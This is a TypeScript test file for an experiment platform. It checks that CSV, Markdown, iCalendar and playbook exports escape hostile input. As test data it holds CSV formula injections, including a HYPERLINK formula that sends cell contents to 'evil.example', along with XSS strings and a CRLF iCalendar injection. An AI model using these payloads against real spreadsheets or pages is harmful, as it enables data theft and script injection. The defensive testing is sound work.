// Hostile-input suite (issue "Hardening"), finding 2: what sdk keys and people type comes out of
// every export as text: CSV cells never run as formulas, Markdown makes no markup of its own, the
// iCalendar feed cannot be given extra lines.
import { afterAll, describe, expect, it } from 'vitest';
import ICAL from 'ical.js';
import { createTestApp } from '../helpers/test-app.ts';

const t = await createTestApp({ seed: false });
afterAll(() => t.cleanup());

const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
const html = '<img src=x onerror=alert(1)> [click](javascript:alert(1))\n# Injected heading';

async function ok(res: Response | Promise<Response>, status = 200) {
  const r = await res;
  if (r.status !== status) throw new Error(`${r.status}: ${await r.text()}`);
  return r;
}

let made = 0;
async function hostileExperiment(): Promise<string> {
  const key = `hostile-${++made}`;
  await ok(t.authed('/api/v1/metrics', { method: 'POST', body: { key: `m-${key}`, name: html, kind: 'binomial', eventName: 'activation' } }), 201);
  await ok(t.authed('/api/v1/experiments', {
    method: 'POST',
    body: { key, name: html, exploratory: true, variants: [{ key: 'control' }, { key: 'treatment' }], metrics: { primary: [`m-${key}`] } }
  }), 201);
  await ok(t.authed(`/api/v1/experiments/${key}/start`, { method: 'POST' }));
  const exposures = ['+cmd|calc', formula, '@SUM(1+1)', '-2+3', '\tTAB'].map((segment, i) => ({
    experiment: key, userId: `u-${i}`, attributes: { segment }
  }));
  await ok(t.authed('/api/v1/exposures', { method: 'POST', key: t.sdkKey, body: { exposures } }), 202);
  return key;
}

describe('exports of hostile names and attribute values', () => {
  it('CSV: segment values from an sdk key never start a cell with = + - @ or tab', async () => {
    const key = await hostileExperiment();
    const csv = await (await ok(t.authed(`/api/v1/experiments/${key}/results.csv?segment=segment`))).text();
    const cells = csv.split('\r\n').filter(Boolean).slice(1).map((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '')));
    expect(cells.length).toBeGreaterThanOrEqual(10); // (all) rows and one pair per segment value
    for (const row of cells) {
      for (const cell of row) {
        const value = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
        // A number may be negative; text may not begin like a formula.
        if (!/^-?\d/.test(value)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    expect(csv).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(csv).toContain("'+cmd|calc");
  });

  it('Markdown: names make no HTML, links or headings', async () => {
    const key = await hostileExperiment();
    const md = await (await ok(t.authed(`/api/v1/experiments/${key}/results.md?segment=segment`))).text();
    expect(md).not.toMatch(/(?<!\\)</); // every '<' is escaped: no HTML
    expect(md).not.toMatch(/(?<!\\)\]\(javascript:/); // no link
    expect(md.split('\n').filter((l) => l.startsWith('# '))).toHaveLength(1); // only the title
    expect(md.split('\n')[0]).toContain('\\<img src=x onerror=alert\\(1\\)\\> \\[click\\]\\(javascript:alert\\(1\\)\\) \\# Injected heading');
    expect(md).not.toMatch(/^### =HYPERLINK/m); // a segment heading shows the value as text
  });

  it('iCalendar: a plan name with CRLF cannot add an event, with or without experiments', async () => {
    const name = 'Q1\r\nBEGIN:VEVENT\r\nSUMMARY:Injected; x, y\r\nEND:VEVENT';
    const plan = await (await ok(t.authed('/api/v1/plans', { method: 'POST', body: { name, startDate: '2027-01-04', weeks: 12 } }), 201)).json();
    const { feedPath } = await (await ok(t.authed(`/api/v1/plans/${plan.id}/calendar-token`, { method: 'POST' }))).json();
    const feed = async () => (await ok(t.app.request(feedPath))).text();
    // RFC 5545 text: the name's line breaks, ';' and ',' escaped on the one X-WR-CALNAME line.
    const escapedName = 'Q1\\nBEGIN:VEVENT\\nSUMMARY:Injected\\; x\\, y\\nEND:VEVENT';
    const calName = (ics: string) => ics.replace(/\r\n /g, '').split('\r\n').filter((l) => l.startsWith('X-WR-CALNAME:'));
    const empty = await feed();
    expect(new ICAL.Component(ICAL.parse(empty)).getAllSubcomponents('vevent')).toHaveLength(0);
    expect(calName(empty)).toEqual([`X-WR-CALNAME:${escapedName}`]);
    await ok(t.authed(`/api/v1/plans/${plan.id}/experiments`, {
      method: 'POST', body: { name: 'Week 2; "test", with commas', week: 2, channels: ['email'], durationDays: 14, variants: [{ key: 'control', name: 'Control', weight: 1 }, { key: 'b', name: 'B', weight: 1 }] }
    }), 201);
    const ics = await feed();
    const calendar = new ICAL.Component(ICAL.parse(ics));
    expect(calendar.getAllSubcomponents('vevent')).toHaveLength(2); // the run and its review day
    expect(calName(ics)).toEqual([`X-WR-CALNAME:${escapedName}`]);
    expect(calendar.getAllSubcomponents('vevent')[0]!.getFirstPropertyValue('summary')).toContain('Week 2; "test", with commas');
  });
});

describe('the playbook export of hostile entries', () => {
  it('titles, learnings, audiences and channels make no HTML, links or headings', async () => {
    const { playbookToMarkdown, groupPlaybook } = await import('../../calendar/playbook/index.ts');
    const entry = {
      id: 1, experimentId: 1, experimentKey: 'x', title: html, whatWasTested: formula, winningVariantKey: 'b', metricKey: 'activation',
      relativeLift: 0.2, ciLow: 0.1, ciHigh: 0.3, pValue: 0.01, channel: '<script>alert(1)</script>', lifecycleStage: '# stage\nnew line',
      audience: '[x](javascript:alert(1))', evidenceUrl: '/experiments/x/report', learning: '<b>bold</b>\n## heading', createdBy: 'ana',
      createdAtMs: 0, channels: ['email'], exploratory: false, reviewerOverride: null, guardrails: []
    };
    const md = playbookToMarkdown(groupPlaybook([entry as never]));
    expect(md).not.toMatch(/(?<!\\)</); // no HTML
    expect(md).not.toMatch(/(?<!\\)\]\(javascript:/); // no link it did not make
    expect(md).toContain('### \\# stage new line'); // a stage name is text inside its heading, not a heading of its own
    expect(md).not.toMatch(/^## heading/m);
    expect(md).toContain('[report](/experiments/x/report)'); // the one link it makes
  });
});
